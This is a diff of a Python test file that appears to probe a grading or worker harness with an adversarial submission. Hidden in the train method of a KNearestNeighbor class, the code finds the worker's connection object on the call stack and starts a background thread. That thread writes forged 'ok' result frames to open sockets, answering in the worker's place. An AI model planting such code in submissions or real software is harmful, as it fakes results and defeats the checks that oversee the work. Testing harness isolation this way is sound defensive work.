@@ -1,6 +1,5 @@
 """Keep a thread that writes to the socket and prints while nobody asked, and answers in place of the worker."""
 
-import gc
 import os
 import stat
 import sys
@@ -13,9 +12,19 @@ CITE = "forged / oversize / malformed frames, stale call-back ids, slow drip, de
 UNPROTECTED = "nothing"  # there is no such socket without the split
 
 
-def disturb():
-    made = next(m for m in list(sys.modules.values()) if hasattr(m, "Channel") and hasattr(m, "encode"))
-    frame = made.to_bytes(made.encode(("ok", 0, (), None), kind=2)[0])
+def channel():
+    """The worker's own connection, found on the stack."""
+    frame = sys._getframe()
+    while frame is not None:
+        for value in frame.f_locals.values():
+            if type(value).__name__ == "Channel":
+                return value
+        frame = frame.f_back
+    raise RuntimeError("no connection on the stack")
+
+
+def disturb(made):
+    frame = made["to_bytes"](made["encode"](("ok", 0, (), None), kind=2)[0])
     found = [fd for fd in range(3, 64) if is_socket(fd)]
     for _ in range(300):
         for fd in found:
@@ -33,8 +42,8 @@ def is_socket(fd):
 class KNearestNeighbor:
     def train(self, X, y):
         self.X_train, self.y_train = X, y
-        threading.Thread(target=disturb, daemon=True).start()
-        gc.freeze()
+        made = channel().send.__func__.__globals__
+        threading.Thread(target=disturb, args=(made,), daemon=True).start()
 
     def compute_distances_two_loops(self, X):
         time.sleep(0.05)
